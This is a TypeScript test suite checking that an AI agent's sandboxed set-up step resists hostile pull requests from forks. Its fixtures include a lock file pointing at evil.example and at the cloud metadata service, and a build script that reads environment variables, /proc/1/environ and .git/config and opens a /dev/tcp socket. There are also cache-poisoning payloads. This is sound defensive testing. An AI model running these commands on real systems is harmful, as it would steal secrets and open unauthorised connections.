import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { available } from '../sandbox/runner-fixture.ts';
import { type NpmRegistry, npmProject, startNpmRegistry } from '../support/npm-registry.ts';
import { call, lastResults } from '../uses/support/conversation.ts';
import { modelKey } from '../uses/support/start-app.ts';
import { noHarm, type Range, startRange } from './support/range.ts';

vi.setConfig({ maxConcurrency: 4 });

let registry: NpmRegistry;
let range: Range;

/** Base branch: installs one package, and runs a program of the tree, as a build does. */
const config = (host: string) => `review: { auto: false }
sandbox: required
permissions: { preset: unrestricted }
setup:
  commands: [npm ci, node build.js]
  registries: ["${host}"]
`;

/** A pull request by `rex` from a fork with these files; what its run read of the installed package, and what it reported. */
async function fromFork(name: string, files: Readonly<Record<string, string>>) {
  const { shop } = range;
  const fork = await shop.fork(`${name}-rex`);
  await fork.commit(name, { files, message: 'Mine', author: `${name}-rex` });
  const { number } = await shop.openPullRequest({
    title: name,
    head: name,
    headRepository: fork,
    author: `${name}-rex`,
  });
  return runOn(name, number);
}

async function runOn(name: string, number: number) {
  const { stage, shop } = range;
  const task = `use ${name}`;
  stage.learn(task, (turn) =>
    turn === 1
      ? { calls: [call('read', { path: 'node_modules/greeting/index.js' })] }
      : { text: 'I used it.' },
  );
  stage.passTime();
  const { id } = shop.comment(number, { author: 'ada', body: `@anode ${task}` });
  const report = await stage.report(shop, number, id);
  const installed = stage.requestsFor(task).slice(1).map(lastResults).join('\n');
  return { report, installed, harm: await range.harm() };
}

describe.skipIf(!available)('a set-up on a stranger’s tree', () => {
  beforeAll(async () => {
    registry = await startNpmRegistry([
      { name: 'greeting', version: '1.0.0', files: { 'index.js': "module.exports = 'hello';\n" } },
      {
        name: 'scripted',
        version: '1.0.0',
        manifest: { scripts: { preinstall: 'echo ran > ran.txt', postinstall: 'echo ran > ran.txt' } },
        files: { 'index.js': '' },
      },
    ]);
    const operator = path.join(registry.folder, 'anode');
    mkdirSync(operator);
    const network = { privateRegistries: [registry.host, '169.254.169.254'] };
    writeFileSync(path.join(operator, 'config.json'), JSON.stringify({ network }));
    const files = {
      '.github/anode.yml': config(registry.host),
      'build.js': '',
      ...npmProject(registry, ['greeting']),
    };
    range = await startRange(files, { XDG_CONFIG_HOME: registry.folder });
  });
  afterAll(async () => {
    await range.close();
    await registry.close();
  });

  test.concurrent('cannot reach another host named in a lock file', async () => {
    const elsewhere = { greeting: 'http://evil.example/greeting.tgz' };
    const { report, harm } = await fromFork('elsewhere', npmProject(registry, ['greeting'], elsewhere));
    expect(harm).toEqual(noHarm);
    expect(report).toContain('The set-up wanted evil.example: refused, it is not among the registries.');
    expect(report).toContain('The set-up failed, and the run continued without it');
  });

  test.concurrent('cannot reach a cloud’s metadata service named in a lock file', async () => {
    const metadata = { greeting: 'http://169.254.169.254/latest/meta-data/iam' };
    const { report, harm } = await fromFork('metadata', npmProject(registry, ['greeting'], metadata));
    expect(harm).toEqual(noHarm);
    expect(report).toContain('The set-up wanted 169.254.169.254: refused');
  });

  test.concurrent('cannot reach a server of this machine named in package manager settings', async () => {
    const { port } = range.listener;
    const npmrc = `registry=http://127.0.0.1:${port}/\nnoproxy=*\nproxy=null\nhttps-proxy=null\nignore-scripts=false\n`;
    const project = npmProject(registry, ['greeting'], { greeting: `http://127.0.0.1:${port}/greeting.tgz` });
    const { harm } = await fromFork('settings', { ...project, '.npmrc': npmrc });
    expect(harm).toEqual(noHarm);
  });

  test.concurrent('runs no install script of a package', async () => {
    const build = `const fs = require('node:fs');
      const ran = fs.existsSync('node_modules/scripted/ran.txt');
      fs.writeFileSync('node_modules/greeting/index.js', fs.existsSync('node_modules/scripted') + ' ' + ran);`;
    const project = npmProject(registry, ['greeting', 'scripted']);
    const { installed, harm } = await fromFork('scripts', { ...project, 'build.js': build });
    // Installed it is; run it has not.
    expect({ installed: installed.includes('true false'), harm }).toEqual({ installed: true, harm: noHarm });
  });

  test.concurrent('gives a build no secrets, no network and no results of others', async () => {
    const { file } = range.outside;
    const build = `
      const { readFileSync, writeFileSync, readdirSync } = require('node:fs');
      const attempt = (work) => { try { return work(); } catch (error) { return error.code ?? error.message; } };
      const { execSync } = require('node:child_process');
      const seen = [
        JSON.stringify(process.env),
        attempt(() => readFileSync('/proc/1/environ', 'latin1')),
        attempt(() => readFileSync('${file}', 'utf8')),
        attempt(() => writeFileSync('${file}', 'owned')),
        attempt(() => readdirSync('${path.dirname(file)}/data/set-up')),
        attempt(() => execSync('(exec 3<>/dev/tcp/127.0.0.1/${range.listener.port}) 2>&1', { shell: '/bin/bash' })),
        attempt(() => readFileSync('.git/config', 'utf8')),
      ];
      writeFileSync('node_modules/greeting/index.js', seen.join('\\n').replaceAll('\\0', ' '));`;
    const { installed, harm } = await fromFork('secrets', { 'build.js': build });
    expect(harm).toEqual(noHarm);
    // The file, the folder of results, the settings of git.
    expect(installed.match(/\tENOENT$/gm)).toHaveLength(3);
    expect(installed).not.toContain(modelKey);
  });

  test.concurrent('does not reuse a result poisoned by a run’s own commit', async () => {
    const files = npmProject(registry, ['scripted', 'greeting']);
    const poison = "require('fs').writeFileSync('node_modules/greeting/index.js', 'POISON');";
    const byRun = await range.openPull({
      branch: 'by-run',
      files: { ...files, 'build.js': poison },
      message: 'Mend it\n\nAnode-Run: run_1',
    });
    const poisoned = await runOn('by-run', byRun);
    const victim = await runOn('by-hand', await range.openPull({ branch: 'by-hand', files }));
    const said = [poisoned, victim].map(({ installed }) => /POISON|hello/.exec(installed)?.[0]);
    expect({ said, harm: victim.harm }).toEqual({ said: ['POISON', 'hello'], harm: noHarm });
  });

  test.concurrent('does not reuse a poisoned result for another pull request or branch', async () => {
    const poison = "require('fs').writeFileSync('node_modules/greeting/index.js', 'POISON');";
    const poisoned = await fromFork('poison', { 'build.js': poison });
    const other = await fromFork('victim', { 'readme.txt': 'a\n' });
    const own = await runOn('own', await range.openPull({ branch: 'own' }));
    const said = [poisoned, other, own].map(({ installed }) => /POISON|hello/.exec(installed)?.[0]);
    expect({ said, harm: own.harm }).toEqual({ said: ['POISON', 'hello', 'hello'], harm: noHarm });
  });
});
